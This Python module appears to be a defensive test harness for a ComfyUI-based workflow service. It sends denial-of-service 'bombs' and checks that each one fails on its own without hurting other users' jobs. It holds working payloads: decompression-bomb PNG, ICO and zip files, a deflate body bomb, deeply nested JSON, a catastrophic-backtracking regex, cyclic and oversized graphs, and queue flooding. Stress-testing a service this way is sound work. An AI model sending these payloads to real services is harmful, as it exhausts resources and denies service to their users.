"""Small things that become large: each must end as its owner's failure, and cost nobody else anything."""

from __future__ import annotations

import base64
import io
import json
import struct
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from script.local.attack.callers import TERMINAL, Caller
from script.local.attack.honest import Honest
from script.local.attack.report import Report
from script.local.attack.victim import Victim

KIND = "bombs"
OTHERS_SECONDS = 60.0  # an ordinary execution of somebody else may not take longer than that
END_SECONDS = 100.0  # of a bomb: its time limit is one minute
HARMLESS = {400, 401, 403, 404, 405, 408, 409, 411, 413, 414, 415, 422, 429, 431, 503, 507}


@dataclass(frozen=True)
class Bomb:
    """`send` answers with the statuses of what it sent; `workflow` is submitted."""

    name: str
    workflow: Callable[[], Any] | None = None
    send: Callable[[], list[int]] | None = None


class BombAttack:
    def __init__(self, attacker: Caller, victim: Victim, honest: Honest, report: Report) -> None:
        self.attacker, self.victim, self.honest, self.report = attacker, victim, honest, report

    def run(self, *, seconds: float, only: frozenset[str] | None = None) -> None:
        """One after the other, until the time is up; `only` are the names of some."""
        end = time.monotonic() + seconds
        for bomb in self.all():
            if (only is None or bomb.name in only) and time.monotonic() < end:
                with self.honest.beside(f"bomb: {bomb.name}"):
                    self._throw(bomb)

    def all(self) -> list[Bomb]:
        return [
            Bomb("icon with a large picture", send=lambda: self._uploaded(_icon(), "a.ico")),
            Bomb("picture of 60,000 by 60,000", send=lambda: self._uploaded(_huge_png(), "a.png")),
            Bomb("huge picture as an input", workflow=lambda: _loading(_huge_png(side=6_000))),
            Bomb("text of 64 MiB", workflow=lambda: _doubling(10, size=65_000)),
            Bomb("many outputs", workflow=lambda: _many_outputs()),
            Bomb("regular expression", workflow=_regex),
            Bomb("deep graph", workflow=lambda: _chain(800, "ImageInvert", {})),
            Bomb("deeper graph", workflow=lambda: _chain(1_900, "ImageInvert", {})),
            Bomb("graph too large", workflow=lambda: _chain(50_000, "ImageInvert", {})),
            Bomb("circle", workflow=_circle),
            Bomb("huge metadata", send=self._huge_metadata),
            Bomb("deep JSON", send=lambda: self._raw(b'{"workflow": ' + b'{"a":' * 50_000 + b"1")),
            Bomb("wide JSON", send=lambda: self._raw(b'{"workflow": [' + b"[]," * 2_000_000 + b"1]}")),
            Bomb("endless number", send=lambda: self._raw(b'{"timeout_minutes": ' + b"9" * 900_000 + b"}")),
            Bomb("archive as a file", send=lambda: self._uploaded(_archive(), "a.zip")),
            Bomb("compressed body", send=self._compressed),
            Bomb("large batch", send=self._large_batch),
            Bomb("endless run", workflow=_endless),
            Bomb("many waiting", send=self._many_waiting),
        ]

    # -- throwing ------------------------------------------------------------------------------------
    def _throw(self, bomb: Bomb) -> None:
        self.report.tried(KIND)
        began = time.monotonic()
        execution_id = None
        if bomb.send:
            wrong = sorted(
                {status for status in bomb.send() if status not in HARMLESS and status // 100 != 2}
            )
            if wrong:
                self.report.leak(KIND, f"{bomb.name} was answered with {wrong}")
        elif bomb.workflow:
            execution_id = self._submit(bomb)
        status, seconds = self.victim.wait_for_own(seconds=OTHERS_SECONDS * 2)
        if status != "completed" or seconds > OTHERS_SECONDS:
            self.report.leak(KIND, f"{bomb.name}: another user's execution is {status} after {seconds:.0f} s")
        ended = self._end_of(bomb, execution_id) if execution_id else "refused or answered"
        told = f"{ended}, {time.monotonic() - began:.1f} s; another's run {seconds:.1f} s"
        self.report.note(f"{f'bomb: {bomb.name}':42} {told}")

    def _submit(self, bomb: Bomb) -> str | None:
        assert bomb.workflow is not None
        body = {"workflow": bomb.workflow(), "timeout_minutes": 1}
        answer = self.attacker.post("/workflows/execute", body)
        if answer.status == 200:
            return str(answer.json()["execution_id"])
        if answer.status not in HARMLESS:
            self.report.leak(KIND, f"{bomb.name} was answered with {answer.status}")
        return None

    def _end_of(self, bomb: Bomb, execution_id: str) -> str:
        result = self.attacker.end_of(execution_id, seconds=END_SECONDS)
        self.report.accepted(KIND)
        status, error = result.get("status"), str(result.get("error") or "")
        if status not in TERMINAL:
            self.report.leak(KIND, f"{bomb.name} is {status} after {END_SECONDS:.0f} s")
        if len(json.dumps(result)) > 2_000_000:
            self.report.leak(KIND, f"{bomb.name}: its result has {len(json.dumps(result))} bytes")
        return f"{status} {error[:80]!r}" if error else str(status)

    def _uploaded(self, content: bytes, name: str) -> list[int]:
        answer = self.attacker.ask("POST", "/files/upload", files={"file": (name, content)})
        statuses = [answer.status]
        told = answer.json()
        if answer.status < 300 and isinstance(told, dict) and "file_id" in told:
            statuses.append(self.attacker.get(f"/files/{told['file_id']}/thumbnail").status)
            loading = {"1": {"class_type": "LoadImage", "inputs": {"image": told["file_id"]}}}
            loading["2"] = {"class_type": "PreviewImage", "inputs": {"images": ["1", 0]}}
            ran = self.attacker.post("/workflows/execute", {"workflow": loading, "timeout_minutes": 1})
            statuses.append(ran.status)
            if ran.status == 200:
                self.attacker.end_of(ran.json()["execution_id"], seconds=END_SECONDS)
        return statuses

    def _raw(self, body: bytes) -> list[int]:
        headers = {"Content-Type": "application/json"}
        paths = ("/workflows/execute", "/workflows/validate", "/auth/login", "/comfyui/prompt", "/mcp")
        return [self.attacker.ask("POST", path, data=body, headers=headers).status for path in paths]

    def _huge_metadata(self) -> list[int]:
        body = {"workflow": self.victim.colour(), "metadata": {"x": "y" * 9_000_000}}
        statuses = [self.attacker.post("/workflows/execute", body).status for _ in range(3)]
        return [*statuses, self.attacker.get("/workflows/?limit=100").status]

    def _compressed(self) -> list[int]:
        """A megabyte that would be a gigabyte."""
        body = zlib.compress(b"[" + b"[]," * 30_000_000 + b"1]", 9)
        headers = {"Content-Type": "application/json", "Content-Encoding": "deflate"}
        return [self.attacker.ask("POST", "/workflows/execute", data=body, headers=headers).status]

    def _large_batch(self) -> list[int]:
        grid = {"1.color": list(range(1000)), "1.width": list(range(1000))}
        body = {"workflow": self.victim.colour(), "grid": grid}
        return [self.attacker.post("/workflows/batch", body).status]

    def _many_waiting(self) -> list[int]:
        """A full queue: another's turn comes all the same."""
        answers = [
            self.attacker.post("/workflows/execute", {"workflow": self.victim.colour(), "priority": "high"})
            for _ in range(100)
        ]
        return [answer.status for answer in answers]


# -- workflows -------------------------------------------------------------------------------------------
def _loading(content: bytes) -> Any:
    url = "data:image/png;base64," + base64.b64encode(content).decode()
    return {
        "1": {"class_type": "LoadImage", "inputs": {"image": url}},
        "2": {"class_type": "PreviewImage", "inputs": {"images": ["1", 0]}},
    }


def _doubling(times: int, *, size: int = 1000) -> Any:
    graph: dict[str, Any] = {"1": {"class_type": "PrimitiveString", "inputs": {"value": "x" * size}}}
    for number in range(2, times + 2):
        link = [str(number - 1), 0]
        inputs = {"string_a": link, "string_b": link, "delimiter": ""}
        graph[str(number)] = {"class_type": "StringConcatenate", "inputs": inputs}
    last = str(times + 1)
    return graph | {"show": {"class_type": "PreviewAny", "inputs": {"source": [last, 0]}}}


def _many_outputs() -> Any:
    size = {"width": 16, "height": 16, "batch_size": 3000, "color": 5}
    return {
        "1": {"class_type": "EmptyImage", "inputs": size},
        "2": {"class_type": "SaveImage", "inputs": {"images": ["1", 0], "filename_prefix": "many"}},
    }


def _regex() -> Any:
    inputs = {
        "string": "a" * 40 + "!", "regex_pattern": "(a+)+$", "case_insensitive": False, "multiline": False,
        "dotall": False,
    }  # fmt: skip
    return {
        "1": {"class_type": "RegexMatch", "inputs": inputs},
        "2": {"class_type": "PreviewAny", "inputs": {"source": ["1", 0]}},
    }


def _chain(length: int, class_type: str, inputs: dict[str, Any], side: int = 16) -> Any:
    """One node after the other, none of which has its result known already."""
    size = {"width": side, "height": side, "batch_size": 1, "color": time.time_ns() % 2**24}
    graph: dict[str, Any] = {"0": {"class_type": "EmptyImage", "inputs": size}}
    for number in range(1, length):
        graph[str(number)] = {"class_type": class_type, "inputs": {**inputs, "image": [str(number - 1), 0]}}
    save = {"images": [str(length - 1), 0], "filename_prefix": "chain"}
    return graph | {"save": {"class_type": "SaveImage", "inputs": save}}


def _endless() -> Any:
    """Many nodes that take long: ComfyUI looks whether it is to stop between two of them."""
    return _chain(800, "ImageBlur", {"blur_radius": 31, "sigma": 10.0}, side=768)


def _circle() -> Any:
    graph = _chain(10, "ImageInvert", {})
    graph["1"]["inputs"]["image"] = ["9", 0]
    return graph


# -- files -----------------------------------------------------------------------------------------------
def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _huge_png(*, side: int = 60_000) -> bytes:
    """One bit a pixel, all the same: some kilobytes that are gigabytes."""
    packer = zlib.compressobj(9)
    line = b"\0" * (1 + side // 8)
    pixels = b"".join(packer.compress(line * 500) for _ in range(side // 500)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def _icon() -> bytes:
    inner = _huge_png(side=12_000)
    entry = struct.pack("<BBBBHHII", 16, 16, 0, 0, 1, 32, len(inner), 22)
    return struct.pack("<HHH", 0, 1, 1) + entry + inner


def _archive() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x", b"\0" * 200_000_000)
    return buffer.getvalue()
